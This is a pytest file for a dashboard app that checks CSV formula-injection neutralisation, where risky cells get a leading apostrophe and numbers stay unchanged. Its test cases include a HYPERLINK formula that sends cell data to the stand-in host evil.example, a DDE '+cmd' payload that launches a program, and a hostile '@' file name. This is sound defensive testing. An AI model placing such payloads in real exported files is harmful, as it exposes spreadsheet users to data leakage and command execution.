"""Every CSV the app writes is safe to open in a spreadsheet: text that would run as a formula
gets a leading ', numbers stay numbers (dashboard.csvsafe)."""
from __future__ import annotations

import csv
import io
import json

import pytest

from app import create_app
from datasets import GEODATA, event, write_dataset
from dashboard.config import Config
from dashboard.csvsafe import safe_cell
from dashboard.importers import import_file
from test_importing import acled_with, read_csv


@pytest.mark.parametrize("cell,written", [
    ('=HYPERLINK("http://evil.example/?x="&A1,"click")',
     '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("-", "'-"), ("--", "'--"), ("+", "'+"), ("-1e", "'-1e"), ("- 3", "'- 3"),
    # plain numbers are data, not formulas
    ("-3.5", "-3.5"), ("+12", "+12"), ("-1e-3", "-1e-3"), ("-.5", "-.5"), ("-7", "-7"),
    # anything not starting with a formula character is untouched
    ("Derna", "Derna"), ("a=1", "a=1"), (" =1", " =1"), ("", ""), ("'=1", "'=1"),
    (-3.5, -3.5), (None, None), (7, 7),
])
def test_safe_cell(cell, written):
    assert safe_cell(cell) == written


HOSTILE = {'=HYPERLINK("http://evil.example/","x")': '\'=HYPERLINK("http://evil.example/","x")',
           "+1+1": "'+1+1", "@x": "'@x", "-x": "'-x"}


def test_the_events_csv_of_the_api_neutralises_formulas(tmp_path):
    features = []
    for n, text in enumerate(HOSTILE):
        e = event(f"e{n}", "2016-01-0" + str(n + 1), ["is"], lon=-3.5)
        e["properties"].update(place=text, notes=text, actor_names=[text],
                               summary={"en": text, "fr": text})
        features.append(e)
    folder = write_dataset(tmp_path / "ds" / "hostile", events=features)
    (folder / "dataset.json").write_text(json.dumps(
        {"name": "hostile", "title": {"en": "x", "fr": "x"}, "region": [-180, -90, 180, 90]}))
    client = create_app(Config(data_dir=GEODATA, datasets_dir=tmp_path / "ds")).server \
        .test_client()
    text = client.get("/api/events?format=csv&dataset=hostile").get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == len(HOSTILE)
    for row, (_original, written) in zip(rows, HOSTILE.items()):
        for column in ("location", "notes", "actor_names", "summary", "summary_fr"):
            assert row[column] == written, column
        assert row["longitude"] == "-3.5"  # a number, kept as a number
    # the JSON is data, not a spreadsheet: it keeps the text as it came
    body = client.get("/api/events?dataset=hostile").get_json()
    assert [f["properties"]["place"] for f in body["features"]] == list(HOSTILE)


def test_the_rejects_file_neutralises_formulas(tmp_path):
    path = acled_with(tmp_path, {"event_date": "=1+1", "notes": "@SUM(1)"},
                      {"event_type": "-Remote violence"}, name="@evil.csv")
    report = import_file(path, dataset="part", datasets_dir=tmp_path / "ds",
                         skip_invalid=True)
    assert report.ok, report.as_text()
    _, rejects = read_csv(report.rejects_file)
    assert [r["field"] for r in rejects] == ["event_date", "event_type"]
    assert {r["layer"] for r in rejects} == {"'@evil.csv"}
    for row in rejects:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r"))
                       for cell in row.values())
    # the row's own cells are kept exactly, inside the JSON object
    assert json.loads(rejects[0]["row"])["event_date"] == "=1+1"
    assert json.loads(rejects[1]["row"])["event_type"] == "-Remote violence"
